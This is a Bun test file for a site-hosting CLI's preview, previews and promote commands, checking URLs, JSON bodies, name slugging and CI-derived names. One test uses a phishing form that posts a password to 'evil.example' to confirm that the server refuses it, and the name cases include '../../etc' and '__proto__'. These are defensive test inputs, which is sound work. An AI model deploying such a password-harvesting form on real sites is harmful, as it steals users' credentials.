/** BEYOND 7, command line: `svc preview`, `svc previews` and `svc promote`. */
import { beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { createHash } from "node:crypto";
import { Home, homeWithSite, json } from "../kit/cli.ts";
import { fakeServer } from "../kit/fake-server.ts";
import { slugOf } from "../kit/server.ts";
import { shared, sharedServer } from "../kit/shared.ts";

// A test runs the CLI several times, on a machine that may be busy.
setDefaultTimeout(60_000);

let url: string;
let slug: string;
let site_id: string;

const server = await sharedServer();
const home = shared(await homeWithSite(server.base_url));
beforeAll(async () => {
  const body = json(await home.run(["--json"]));
  [url, site_id] = [String(body["url"]), String(body["site_id"])];
  slug = slugOf(url);
});

const draft = (text: string) => home.write("", { "dist/index.html": `<!doctype html><title>t</title><p>${text}` });
const beside = (name: string) => url.replace("//", `//${name}--`);
const shown = async (name: string) => (await server.site(`${name}--${slug}`)).text();

describe("svc preview", () => {
  test("prints the URL alone on stdout, and shows the content there; what is live stays", async () => {
    const live = await (await server.site(slug)).text();
    await draft("one");
    const { code, out, err } = await home.run(["preview", "--name", "one"]);
    expect([code, out]).toEqual([0, `${beside("one")}\n`]);
    expect(err).toContain("dist is shown at");
    expect(err).toContain("promote one");
    expect(await shown("one")).toContain("<p>one");
    expect(await (await server.site(slug)).text()).toBe(live);
  });

  test("of what is live already it says so: no promote is offered, and its warnings are of what is live", async () => {
    await using own = await homeWithSite(server.base_url);
    await own.write("", { "dist/index.html": '<!doctype html><title>t</title><a href="none.html">none</a>' });
    await own.run([]);
    const { code, err } = await own.run(["preview", "--name", "same"]);
    expect(code).toBe(0);
    expect(err).toContain("It is what is live already.");
    expect(err).toContain("It is live, but 1 thing is broken or risky");
    expect(err).not.toContain("promote");
  });

  test("a path, and --site from anywhere; -q tells nothing else", async () => {
    await draft("two");
    const named = await home.run(["preview", "dist", "--name", "two", "-q"]);
    expect([named.code, named.out, named.err]).toEqual([0, `${beside("two")}\n`, ""]);
    const away = await home.run(["preview", home.path("dist"), "--site", site_id, "--name", "away"], { cwd: "/" });
    expect([away.code, away.out]).toEqual([0, `${beside("away")}\n`]);
    expect(away.err).toContain(`promote away --site ${site_id}`);
  });

  test("what is live already is not offered to be made live", async () => {
    await draft("live");
    expect((await home.run(["update"])).code).toBe(0);
    const { code, err } = await home.run(["preview", "--name", "same"]);
    expect(code).toBe(0);
    expect(err).toContain("what is live already");
    expect(err).not.toContain("promote");
  });

  test("--json is the API's body with `ok`", async () => {
    await draft("three");
    const { code, out } = await home.run(["preview", "--name", "three", "--json"]);
    const body = json({ out });
    expect(code).toBe(0);
    expect(body).toEqual({
      ok: true,
      url: beside("three"),
      version_url: beside(String(body["version_id"])),
      name: "three",
      site_id,
      slug,
      version_id: expect.stringMatching(/^[0-9a-f]{16}$/),
      live_url: url,
      expires_at: expect.any(Number),
      changed: true,
      files: { added: [], changed: ["index.html"], removed: [] },
      healed: [],
      warnings: [],
    });
  });

  const hash = (text: string) => createHash("sha256").update(text).digest("hex").slice(0, 4);
  const names: [text: string, name: (longest: number) => string][] = [
    ["Feature/Login Form", () => "feature-login-form"],
    ["--a__b..c--", () => "a-b-c"],
    ["renovate/node-22.x", () => "renovate-node-22-x"],
    ["refs/heads/main\n", () => "refs-heads-main"],
    ["x".repeat(80), (longest) => `${"x".repeat(longest - 5)}-${hash("x".repeat(80))}`],
    ["0123456789ABCDEF", () => `0123456789abcdef-${hash("0123456789ABCDEF")}`],
    ["xn", () => `xn-${hash("xn")}`],
    ["ветка", () => `preview-${hash("ветка")}`],
    ["__proto__", () => "proto"],
    ["../../etc", () => "etc"],
    ["a&name=b#c?d", () => "a-name-b-c-d"],
  ];
  test.each(names)("any text is made into a name: %j", async (text, name) => {
    await draft("named");
    const { code, out } = await home.run(["preview", `--name=${text}`]);
    expect([code, out]).toEqual([0, `${beside(name(61 - slug.length))}\n`]);
    expect((await server.site(slugOf(out))).status).toBe(200);
  });

  test("a name that was cut ends with no second hyphen, and two long ones are two", async () => {
    const texts = ["a", "b"].map((end) => `${"word-".repeat(20)}${end}`);
    const urls = [];
    for (const text of texts) urls.push((await home.run(["preview", "--name", text])).out.trim());
    expect(new Set(urls).size).toBe(2);
    for (const one of urls) expect(new URL(one).hostname.split(".")[0]!.split("--")).toHaveLength(2);
  });

  test.each<[string, Record<string, string>, string | null]>([
    ["GITHUB_REF of a pull request", { GITHUB_REF: "refs/pull/17/merge", CI_COMMIT_REF_SLUG: "other" }, "pr-17"],
    ["GITHUB_REF of a branch, and no GitLab", { GITHUB_REF: "refs/heads/main" }, null],
    ["GITHUB_REF of a branch beside GitLab's", { GITHUB_REF: "refs/heads/main", CI_COMMIT_REF_SLUG: "fix-7" }, "fix-7"],
    ["CI_COMMIT_REF_SLUG", { CI_COMMIT_REF_SLUG: "fix-login" }, "fix-login"],
    ["an empty CI_COMMIT_REF_SLUG", { CI_COMMIT_REF_SLUG: "" }, null],
    ["neither", {}, null],
  ])("without --name: %s", async (_, env, name) => {
    await draft("from ci");
    const body = json(await home.run(["preview", "--json"], { env }));
    expect(body["name"]).toBe(name);
    expect(body["url"]).toBe(name === null ? body["version_url"] : beside(name));
  });

  test("--name beats the build's; an empty one, and --json beside --markdown, are wrong usage", async () => {
    const env = { GITHUB_REF: "refs/pull/17/merge" };
    expect((await home.run(["preview", "--name", "mine"], { env })).out).toBe(`${beside("mine")}\n`);
    for (const args of [["--name="], ["--json", "--markdown"]]) {
      expect((await home.run(["preview", ...args])).code).toBe(2);
    }
  });

  test("a refused one exits 1 with the API's sentence; --json has its code", async () => {
    await home.write("phish", {
      "index.html": `<title>Hi</title><form action="//evil.example"><input type=password></form>`,
    });
    const { code, out } = await home.run(["preview", "phish", "--site", site_id, "--json"]);
    expect([code, json({ out })]).toMatchObject([1, { ok: false, code: "abuse_rejected" }]);
  });

  test("a server that knows no previews is named as older", async () => {
    const record = { site_id, url, expires_at: null, live_version_id: "x", versions: [] };
    const nothing = { error: "There is nothing at this address of the API.", code: "not_found" };
    const fake = fakeServer((_, __, { method }) =>
      method === "GET" ? Response.json(record) : Response.json(nothing, { status: 404 }),
    );
    const other = await Home.make(fake.url);
    await other.write("", { "dist/index.html": "<title>t</title>" });
    const { code, err } = await other.run(["preview", "--site", site_id, "--token", "svc_manage_x"]);
    expect([code, err]).toMatchObject([1, expect.stringContaining("knows no previews")]);
    await other[Symbol.asyncDispose]();
    await fake.stop();
  });
});

describe("svc previews", () => {
  test("a row each, newest first: name, URL, version, end; --json is the API's body with `ok`", async () => {
    server.advance(1000);
    await draft("listed");
    const made = json(await home.run(["preview", "--name", "listed", "--json"]));
    // The site itself ends before it.
    const [record] = await home.links();
    const ends = new Date(Number(record!["expires_at"])).toISOString();
    expect(Number(made["expires_at"])).toBeGreaterThan(Date.parse(ends));
    const { code, out } = await home.run(["previews"]);
    expect([code, out.split("\n")[0]]).toEqual([0, `listed ${beside("listed")} ${made["version_id"]} ${ends}`]);
    const body = json(await home.run(["previews", "--json"]));
    expect(body).toMatchObject({ ok: true });
    expect((body["previews"] as { name: string }[])[0]).toMatchObject({
      name: "listed",
      version_id: made["version_id"],
    });
  });

  test("on a terminal a table; of none a sentence on stderr", async () => {
    const { lines } = await home.runOnTerminal(["previews"]);
    expect(lines[0]).toMatch(/^NAME +URL +DEPLOYED +ENDS IN$/);
    expect(lines[1]).toMatch(/^listed +http\S+ +now +14 days$/);
    const other = await homeWithSite(server.base_url);
    await other.run([]);
    const none = await other.run(["previews"]);
    expect([none.code, none.out]).toEqual([0, ""]);
    expect(none.err).toContain("No previews");
    await other[Symbol.asyncDispose]();
  });
});

describe("svc promote", () => {
  test("makes the preview live and prints the URL; the way back is on stderr", async () => {
    await draft("promoted");
    await home.run(["preview", "--name", "Feature/X"]);
    const before = json(await home.run(["versions", "--json"]))["live_version_id"];
    const { code, out, err } = await home.run(["promote", "Feature/X"]);
    expect([code, out]).toEqual([0, `${url}\n`]);
    expect(err).toContain(`rollback ${before}`);
    expect(await (await server.site(slug)).text()).toContain("<p>promoted");
    expect((await server.site(`feature-x--${slug}`)).status).toBe(404);
  });

  test("by a version's id; --json is the API's body", async () => {
    await draft("by id");
    const { version_id } = json(await home.run(["preview", "--json"]));
    expect(json(await home.run(["promote", String(version_id), "--json"]))).toMatchObject({
      ok: true,
      site_id,
      url,
      version_id,
    });
  });

  test("one that is not there exits 1 and names the list; none named exits 2", async () => {
    const { code, err } = await home.run(["promote", "nothing"]);
    expect([code, err]).toMatchObject([1, expect.stringContaining("previews lists them")]);
    expect((await home.run(["promote"])).code).toBe(2);
  });
});
